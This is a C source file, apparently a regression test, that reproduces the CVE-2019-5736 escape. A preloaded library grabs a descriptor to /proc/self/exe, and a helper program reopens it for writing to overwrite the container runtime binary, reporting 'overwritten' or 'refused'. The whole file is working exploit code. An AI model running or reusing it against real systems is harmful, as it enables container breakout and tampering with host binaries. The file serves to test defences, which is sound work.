// SPDX-License-Identifier: Apache-2.0
// CVE-2019-5736 as it was done. Built once as the library that is preloaded into /proc/self/exe,
// where it keeps a descriptor of the executable and becomes /overwrite; and once as that program,
// which opens the descriptor again for writing, when nobody executes the file any more.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifdef LIBRARY
__attribute__((constructor)) static void take(void)
{
	char number[16];
	int fd = open("/proc/self/exe", O_RDONLY);

	snprintf(number, sizeof(number), "%d", fd);
	unsetenv("LD_PRELOAD");
	execl("/overwrite", "/overwrite", number, (char *)NULL);
}
#else
int main(int argc, char **argv)
{
	char path[64];
	char magic[4] = "";
	int fd = argc > 1 ? atoi(argv[1]) : -1;

	/* The way in works, or the test would prove nothing. */
	if (read(fd, magic, sizeof(magic)) != sizeof(magic) || memcmp(magic, "\177ELF", 4) != 0)
		return 1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 100; i++) {
		int out = open(path, O_WRONLY);

		if (out >= 0 && write(out, "overwritten", 11) == 11) {
			puts("overwritten");
			return 0;
		}
		usleep(1000);
	}
	printf("refused %s\n", strerrorname_np(errno));
	return 0;
}
#endif
